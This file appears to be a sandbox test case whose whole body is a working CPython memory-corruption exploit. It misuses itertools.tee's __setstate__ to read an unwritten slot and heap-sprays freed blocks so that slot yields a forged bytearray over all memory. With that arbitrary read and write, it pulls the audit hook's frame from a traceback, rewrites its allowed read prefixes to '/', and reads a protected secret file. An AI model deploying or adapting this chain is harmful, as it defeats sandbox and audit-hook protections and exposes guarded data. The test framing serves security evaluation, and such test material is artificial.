# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `itertools.tee`'s iterators share a C data object of 57 slots and a count of the values the source gave so far.
# `__setstate__` (pickling's way back) takes any index up to 57, where one up to that count is meant: an iterator set to
# slot 30 of a fresh data object (`itertools._tee_dataobject(source, [], None)`) stores the source's next value there
# and counts one read, so slot 0 counts as read though nothing was ever written to it, and another iterator set to
# slot 0 hands out whatever the block held before. The data object is a 512-byte block of the interpreter's allocator,
# the one a bytes object of the code's own (every word a pointer of its choosing) had just freed: the slot names a
# forged bytearray header (size 2**62, data at address 0) inside another bytes object, so any address is read and
# written, with no audit event. From there the hook's frozen read prefixes (the frame of a refusal it makes
# unreported hands them out) gain "/", and the secret file is read where the hook is what guards it. With the hook the
# iterators take no state (AttributeError, 1); without it native code is assumed anyway.
import itertools
import os
import struct

HELD = []  # every object the forged slot names, kept for good
FAKE = struct.pack("<7q", 1 << 40, id(bytearray), 2**62, 2**62, 0, 0, 0)  # refcount, type, size, alloc, bytes, start


def window():
    """A bytearray header of the code's own making, over all memory, handed out by a tee."""
    bodies = [b"\0" * 8 + FAKE + b"\0" * 64 for _ in range(8)]
    HELD.append(bodies)
    pointer = struct.pack("<Q", id(bodies[-1]) + 40)
    spray = [(pointer * 60)[:478] + bytes([k]) for k in range(200)]  # 479 bytes: 512-byte blocks, every word the pointer
    HELD.append(spray)
    for k in range(100, 150):
        spray[k] = None  # freed: the data object takes the last of them
    try:
        data = itertools._tee_dataobject(iter(range(100)), [], None)
        HELD.append(data)
        ahead, behind = itertools.tee(())[0], itertools.tee(())[0]
        ahead.__setstate__((data, 30))  # accepted, though the data object has read nothing
        next(ahead)  # written at slot 30, counted as one read: slot 0 now counts as read
        behind.__setstate__((data, 0))
        got = next(behind)  # slot 0, never written: the spray's pointer
    except Exception:
        return None
    return got if type(got) is bytearray else None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    memory = window()
    if memory is None:
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    at = id(prefixes) + 24  # the tuple's first item
    memory[at:at + 8] = id(root).to_bytes(8, "little")
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a tee set past what it read: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a tee set past what it read"
